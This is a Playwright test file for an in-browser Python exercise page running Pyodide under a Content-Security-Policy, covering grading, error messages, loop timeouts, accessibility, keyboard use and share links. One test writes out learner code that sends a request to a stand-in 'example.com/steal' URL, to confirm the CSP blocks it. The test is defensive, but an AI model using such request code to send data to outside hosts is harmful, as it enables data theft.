"""The /python/ exercises in real Chromium, under the deploy Content-Security-Policy.

The built site is served on 127.0.0.1 with the CSP header of deploy/nginx.conf.
The learner's code runs in the Pyodide worker (worker.js, started through
client.js: the same Pyodide as the calculator). Answers are typed from the page's own model answers (the closed
<details> for teachers), so nothing here repeats the page's content.
"""

from __future__ import annotations

import functools
import http.server
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
AXE_OPTIONS: dict[str, Any] = {
    "runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]},
    "resultTypes": ["violations"],
}
FIRST_RUN_MS = 180_000  # the first run waits for Pyodide to load on a busy machine


def csp_from_nginx() -> str:
    text = (ROOT / "deploy" / "nginx.conf").read_text(encoding="utf-8")
    found = re.findall(r'^\s*add_header\s+Content-Security-Policy\s+"([^"]+)"', text, re.MULTILINE)
    assert len(found) == 1
    return found[0]


class _Handler(http.server.SimpleHTTPRequestHandler):
    extensions_map = {  # noqa: RUF012 - read by the base class
        **http.server.SimpleHTTPRequestHandler.extensions_map,
        ".wasm": "application/wasm",
        ".mjs": "text/javascript",
        ".js": "text/javascript",
        ".json": "application/json",
    }
    policy = ""

    def end_headers(self) -> None:
        self.send_header("Content-Security-Policy", self.policy)
        super().end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def csp_url(built_site: Path) -> Iterator[str]:
    """The built site on 127.0.0.1 with deploy/nginx.conf's CSP header."""
    handler = type("Handler", (_Handler,), {"policy": csp_from_nginx()})
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(handler, directory=str(built_site))
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture
def exercises(page: Any, csp_url: str) -> Any:
    """The Japanese /python/ page, with CSP violations and worker requests recorded."""
    violations: list[str] = []
    page.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    page.context.on("request", page.requests.record)  # the worker's requests too
    page.csp_violations = violations
    page.goto(csp_url + "/python/")
    return page


def state(page: Any, n: int) -> str:
    return str(page.get_attribute(f"#exercise-{n}", "data-exercise-state"))


def wait_state(page: Any, n: int, wanted: str, timeout: float = FIRST_RUN_MS) -> None:
    page.wait_for_selector(f'#exercise-{n}[data-exercise-state="{wanted}"]', timeout=timeout)


def model_answer(page: Any, n: int) -> str:
    return str(page.locator(f"#exercise-{n} details code").text_content())


def editor(page: Any, n: int) -> Any:
    """The CodeMirror editor once it has loaded (the test waits for it)."""
    found = page.locator(f"#exercise-{n} [data-exercise-editor]")
    found.wait_for(timeout=30_000)
    return found


def replace_code(page: Any, n: int, code: str) -> None:
    """Select all in the editor and type the code (keyboard input, as a learner would)."""
    editor(page, n).click()
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(code)


def test_typing_the_correct_answer_and_pressing_check_shows_pass(exercises: Any) -> None:
    page = exercises
    page.click("#exercise-3 [data-exercise-action='check']")
    wait_state(page, 3, "fail")
    assert page.text_content("#exercise-3 [data-exercise-message]").startswith(
        "まだ正解ではありません"
    )
    replace_code(page, 3, model_answer(page, 3))
    page.click("#exercise-3 [data-exercise-action='check']")
    wait_state(page, 3, "pass", 30_000)
    message = page.locator("#exercise-3 [role='status']")
    assert message.get_attribute("aria-live") == "polite"
    assert message.text_content() == "正解です。よくできました。"
    # Output is text: the answer prints a number, and markup stays as characters.
    assert re.fullmatch(r"[0-9.]+\n", page.text_content("#exercise-3 [data-exercise-output]"))
    replace_code(page, 3, 'print("<b>x</b>")')
    page.click("#exercise-3 [data-exercise-action='run']")
    wait_state(page, 3, "idle", 30_000)
    assert page.locator("#exercise-3 [data-exercise-output] b").count() == 0
    assert page.text_content("#exercise-3 [data-exercise-output]") == "<b>x</b>\n"
    assert page.csp_violations == [] and page.page_errors == []


def test_an_error_shows_the_line_in_the_pages_language(exercises: Any) -> None:
    page = exercises
    replace_code(page, 1, "a = 1\nprint(a)\nprint(b)")
    page.click("#exercise-1 [data-exercise-action='run']")
    wait_state(page, 1, "error")
    assert page.text_content("#exercise-1 [data-exercise-message]").startswith("3行目")
    assert "Traceback" not in page.text_content("#exercise-1")


def test_an_infinite_loop_is_stopped_within_10_s_and_the_page_recovers(exercises: Any) -> None:
    page = exercises
    page.click("#exercise-1 [data-exercise-action='run']")  # the first run loads Pyodide
    wait_state(page, 1, "idle")
    replace_code(page, 1, "n = 0\nwhile True:\n    n += 1\n")
    started = time.monotonic()
    page.click("#exercise-1 [data-exercise-action='run']")
    wait_state(page, 1, "stopped", 10_000)
    assert time.monotonic() - started < 10
    assert page.text_content("#exercise-1 [data-exercise-message]").startswith("5秒たっても")
    # A later run works, in a fresh worker.
    page.click("#exercise-1 [data-exercise-action='reset']")
    page.click("#exercise-1 [data-exercise-action='run']")
    wait_state(page, 1, "idle")
    assert "1年のCO₂" in page.text_content("#exercise-1 [data-exercise-output]")


def test_code_cannot_reach_another_host(exercises: Any) -> None:
    """A request to a foreign origin from learner code is blocked by connect-src 'self'."""
    page = exercises
    code = (
        "import js\n"
        "request = js.XMLHttpRequest.new()\n"
        'request.open("GET", "http://example.com/steal", False)\n'
        "request.send()\n"
        'print("sent")\n'
    )
    failed: list[tuple[str, str]] = []
    answered: list[str] = []
    page.context.on("requestfailed", lambda r: failed.append((r.url, str(r.failure))))
    page.context.on("response", lambda r: answered.append(r.url))
    replace_code(page, 2, code)
    page.click("#exercise-2 [data-exercise-action='run']")
    wait_state(page, 2, "error")
    assert "sent" not in page.text_content("#exercise-2 [data-exercise-output]")
    # Chromium reports the attempt, but the CSP stops it before it leaves the browser.
    assert [u for u in answered if "127.0.0.1" not in u] == []
    assert set(page.requests.foreign()) == {u for u, reason in failed if reason == "csp"}
    assert "NetworkError" in page.text_content("#exercise-2 [data-exercise-message]")


def run_axe(page: Any) -> list[dict[str, Any]]:
    page.add_script_tag(path=str(AXE))
    violations: list[dict[str, Any]] = page.evaluate(
        "(options) => axe.run(document, options).then(r => r.violations)", AXE_OPTIONS
    )
    return violations


def test_axe_finds_no_violation_with_the_editor_focused(page: Any, site_url: str) -> None:
    """axe-core is injected as an inline script, so this page is served without the CSP."""
    page.goto(site_url + "/python/")
    editor(page, 1).focus()
    focused = page.evaluate("() => document.activeElement.closest('[data-exercise]').id")
    assert focused == "exercise-1"
    violations = run_axe(page)
    assert [(v["id"], [n["target"] for n in v["nodes"]]) for v in violations] == []
    page.set_viewport_size({"width": 375, "height": 812})  # a small phone
    editor(page, 6).focus()
    violations = page.evaluate(
        "(options) => axe.run(document, options).then(r => r.violations)", AXE_OPTIONS
    )
    assert [(v["id"], [n["target"] for n in v["nodes"]]) for v in violations] == []


def test_keyboard_alone_can_edit_run_and_check(exercises: Any) -> None:
    page = exercises
    # Tab from the top of the page into the first exercise's editor.
    for _ in range(300):
        page.keyboard.press("Tab")
        if page.evaluate(
            "() => !!document.activeElement.closest('#exercise-4') && "
            "document.activeElement.matches('[data-exercise-editor]')"
        ):
            break
    else:
        pytest.fail("Tab never reached the editor of exercise 4")
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(model_answer(page, 4))
    # Leave the editor: Escape, then Tab reaches Run.
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.dataset.exerciseAction") == "run"
    page.keyboard.press("Enter")
    wait_state(page, 4, "idle")
    assert "kWh" in page.text_content("#exercise-4 [data-exercise-output]")
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.dataset.exerciseAction") == "check"
    page.keyboard.press("Enter")
    wait_state(page, 4, "pass", 30_000)


def test_english_page_speaks_english_and_reset_brings_back_the_start(
    page: Any, csp_url: str
) -> None:
    page.goto(csp_url + "/en/python/")
    assert page.text_content("#exercise-5 label") == "Code for exercise 5"
    start = page.input_value("#exercise-5 textarea")  # the hidden textarea keeps the start
    replace_code(page, 5, model_answer(page, 5))
    page.click("#exercise-5 [data-exercise-action='check']")
    wait_state(page, 5, "pass")
    assert page.text_content("#exercise-5 [data-exercise-message]") == "Correct. Well done."
    page.click("#exercise-5 [data-exercise-action='reset']")
    page.click("#exercise-5 [data-exercise-action='check']")
    wait_state(page, 5, "fail", 30_000)
    shown = editor(page, 5).inner_text()
    assert "".join(shown.split()) == "".join(start.split())


def test_a_link_carries_the_code_in_the_fragment_only(page: Any, csp_url: str) -> None:
    page.goto(csp_url + "/en/python/")
    replace_code(page, 2, "print('from a link')")
    page.click("#exercise-2 [data-exercise-action='link']")
    url = page.url
    assert "#exercise-2=" in url and "?" not in url
    page.goto("about:blank")
    page.goto(url)
    page.click("#exercise-2 [data-exercise-action='run']")
    wait_state(page, 2, "idle")
    assert page.text_content("#exercise-2 [data-exercise-output]") == "from a link\n"
    stored = page.evaluate(
        "() => Object.keys(localStorage).length + Object.keys(sessionStorage).length"
    )
    assert stored == 0
